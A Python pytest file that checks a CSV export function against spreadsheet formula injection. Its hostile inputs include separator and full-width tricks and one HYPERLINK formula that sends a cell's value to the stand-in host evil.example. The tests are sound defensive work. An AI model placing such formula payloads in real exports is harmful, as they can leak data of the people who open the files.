"""Sheets: what people typed stays in its cell."""

import csv as reading
import io

import pandas as pd
import pytest

from tests.hostile import LONG, TEXTS
from toolkit.collection.exports.ingest_files import ingest
from toolkit.formatting import csv


@pytest.mark.parametrize("name", ["a\r=1+1", "a\n=1+1", "a\r\n=1+1", 'a"\r=1', "=1+1", "@x", "-1"])
def test_a_name_is_one_cell_and_no_formula(name):
    text = csv(pd.DataFrame({"name": [name, "b"], "n": [1, 2]}))
    rows = pd.read_csv(io.StringIO(text, newline=""))
    assert len(rows) == 2
    assert rows["name"][0].replace("'", "") == name
    assert not rows["name"][0].startswith(("=", "+", "-", "@"))


def is_half(text):
    """Whether a text has no UTF-8 form."""
    return any("\ud800" <= character <= "\udfff" for character in text)


HIDDEN = [
    ";=1+1",
    "a;=1+1",
    'a;"=1+1"',
    "a;;=1+1",
    "a; =1+1",
    'a;" ""=1+1',
    "a\t=1+1",
    "a\t@x",
    'a,b;=HYPERLINK("http://evil.example/?"&A1,"press")',
    "a\n=1+1",
    'a"\r\n"=1+1',
    "a;-1",
    "a;+1",
    "a;＝1＋1",  # noqa: RUF001 - spreadsheets read it as =1+1
    " =1+1",
    '"=1+1"',
    "\t=1+1",
    "a;\t=1+1",
    "=1;=2;=3",
    *(text for text in TEXTS.values() if len(text) < LONG // 8 and not is_half(text)),
]


def as_spreadsheets_do(text, delimiter):
    """Return each cell as a reader with this separator sees it, without what it may drop."""
    rows = reading.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell.lstrip(' "') for row in rows for cell in row]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("place", ["first", "middle", "last", "title", "list"])
def test_no_reader_of_any_separator_sees_a_formula(delimiter, place):
    for name in HIDDEN:
        whole = {"a": ["b;"], "b": [name], "c": ["x"]}
        frame = {
            "first": pd.DataFrame({"b": [name], "c": ["x"]}),
            "middle": pd.DataFrame(whole),
            "last": pd.DataFrame({"a": ["b"], "b": [name]}),
            "title": pd.DataFrame({"a": ["b"], name: ["x"]}),
            "list": pd.DataFrame({"a": ["b"], "b": [(name, "x;=2")]}),
        }[place]
        cells = as_spreadsheets_do(csv(frame), delimiter)
        formulas = [one for one in cells if one.startswith(tuple("=+-@＝＋－＠"))]  # noqa: RUF001 - as above
        assert not formulas, (name, formulas)


def test_where_commas_divide_every_text_is_one_cell_and_only_quotes_were_added():
    names = [name for name in HIDDEN if "'" not in name]
    text = csv(pd.DataFrame({"name": names, "n": range(len(names))}))
    rows = list(reading.reader(io.StringIO(text, newline="")))
    assert [len(row) for row in rows] == [2] * (len(names) + 1)
    assert [row[0].replace("'", "") for row in rows[1:]] == names


def test_a_text_without_a_formula_stays_as_it_is():
    names = ["Zoë; Ann", "a-b", "x;y=1", "1;2", "a + b", "https://x.test/?a=1;b=-2", "O'Hara"]
    text = csv(pd.DataFrame({"name": names}))
    assert list(pd.read_csv(io.StringIO(text))["name"]) == names
    assert csv(pd.DataFrame({"n": [-1, 2]})) == "n\r\n-1\r\n2\r\n"
    assert "-0.5" in csv(pd.DataFrame({"n": pd.Series([-0.5, None], dtype=object)}))


def test_a_table_of_users_can_be_ingested_again(tmp_path):
    names = ["=1+1", "@x", "-1", "Ann"]
    ids = [f"auth0|{n}" for n in range(4)]
    frame = pd.DataFrame({"user_id": ids, "name": names, "picture": ""})
    (tmp_path / "users.csv").write_text(csv(frame), newline="")
    assert list(ingest([tmp_path / "users.csv"], tmp_path / "s.parquet").users["name"]) == names


@pytest.mark.parametrize("name", [";=1+1", "a;=1+1", 'a;"=1', "a\t=1", "'=1", "a;'=1"])
def test_a_cell_of_an_export_is_read_as_it_is_but_for_its_first_quote(tmp_path, name):
    """Auth0 puts one quote before each text, and no separator but the comma divides cells."""
    quoted = name.replace('"', '""')
    (tmp_path / "users.csv").write_text(f'user_id,picture,name\r\n"\'auth0|1",,"\'{quoted}"\r\n')
    found = ingest([tmp_path / "users.csv"], tmp_path / "s.parquet").users
    assert list(found["name"]) == [name]
